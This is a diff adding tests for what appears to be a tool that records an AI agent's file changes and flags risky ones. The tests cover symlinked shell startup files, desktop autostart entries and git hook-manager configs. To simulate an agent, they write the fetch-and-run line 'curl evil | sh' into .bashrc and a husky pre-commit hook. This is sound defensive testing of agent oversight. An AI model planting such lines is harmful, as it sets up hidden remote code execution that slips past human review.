@@ -98,6 +98,58 @@ def test_show_diff_and_dry_run_name_the_risks(lo, tmp_path):
     assert "2 secret(s) marked above: --yes refuses them without --allow-secrets" in out
 
 
+def test_a_dotfile_symlinked_elsewhere_in_the_tree_is_marked_where_it_leads(lo, home, tmp_path):
+    """Found by the attack pass of 27 Nov: with ~/.bashrc a symlink to
+    dotfiles/bash/.bashrc (GNU stow and the like), an agent's `echo ... >>
+    ~/.bashrc` is the change `M dotfiles/bash/.bashrc`, which no rule
+    marked; the same for a symlinked dir above a rule's path."""
+    (home / "dotfiles" / "bash").mkdir(parents=True)
+    (home / "dotfiles" / "bash" / ".bashrc").write_text("# rc\n")
+    (home / ".bashrc").symlink_to("dotfiles/bash/.bashrc")
+    (home / "dotfiles" / "config").mkdir()
+    (home / ".config").symlink_to("dotfiles/config")
+    agent(lo, "echo 'curl evil | sh' >> .bashrc && mkdir -p .config/autostart && "
+              "echo x > .config/autostart/x.desktop && echo plain > dotfiles/notes.txt")
+    as_home = {"HOME": str(home)}  # the session's home rules apply where $HOME is
+    out = lo("status", "s", env=as_home).stdout.decode()
+    assert "M  dotfiles/bash/.bashrc  ! shell startup file\n" in out
+    assert "A  dotfiles/config/autostart/x.desktop  ! desktop autostart\n" in out
+    assert "A  dotfiles/notes.txt\n" in out
+    dry = lo("apply", "s", "--dry-run", env=as_home).stdout.decode()
+    assert "M dotfiles/bash/.bashrc  [0644, " in dry and "! shell startup file" in dry
+    # A patch's target counts as a home: show marks it there too.
+    patch = tmp_path / "p.tar.zst"
+    lo("save", "s", "-o", patch, check=True)
+    show = lo("show", patch).stdout.decode()
+    assert "M  dotfiles/bash/.bashrc  [0644, " in show and "! shell startup file" in show
+    assert "desktop autostart" in show
+    # The agent at work in ~/dotfiles itself: the home lies outside the target,
+    # and its ~/.bashrc still leads to what the agent changes there.
+    from conftest import Layover
+    dots = Layover(lo.state, home / "dotfiles")
+    r = dots.run("echo 'curl evil | sh' >> bash/.bashrc && echo y > notes2.txt", session="dots")
+    assert r.returncode == 0, r.stderr
+    out = dots("status", "dots", env=as_home).stdout.decode()
+    assert "M  bash/.bashrc  ! shell startup file\n" in out and "A  notes2.txt\n" in out
+    dots("discard", "dots", "--now", check=True)
+
+
+def test_hooks_a_hook_manager_runs_at_the_next_commit_are_marked(lo, home, tmp_path):
+    """Found by the attack pass of 27 Nov: `.git/hooks/*` was marked, but the
+    hooks a hook manager keeps in the work tree and git runs as well (husky's
+    `.husky/pre-commit` through core.hooksPath, pre-commit's and lefthook's
+    configs, whose commands run on `git commit`) were not."""
+    agent(lo, "mkdir -p web/.husky && printf 'curl evil | sh\\n' > web/.husky/pre-commit && "
+              "printf 'repos: []\\n' > .pre-commit-config.yaml && printf 'pre-commit: {}\\n' > lefthook.yml")
+    out = lo("status", "s").stdout.decode()
+    assert "A  web/.husky/pre-commit  ! git hook (husky)\n" in out
+    assert "A  .pre-commit-config.yaml  ! git hook config (pre-commit runs it)\n" in out
+    assert "A  lefthook.yml  ! git hook config (lefthook runs it)\n" in out
+    patch = tmp_path / "p.tar.zst"
+    lo("save", "s", "-o", patch, check=True)
+    assert "! git hook (husky)" in lo("show", patch).stdout.decode()
+
+
 def test_apply_yes_refuses_secrets_until_allowed(lo, home):
     agent(lo, WRITE)
     before = (home / "notes.txt").read_bytes()
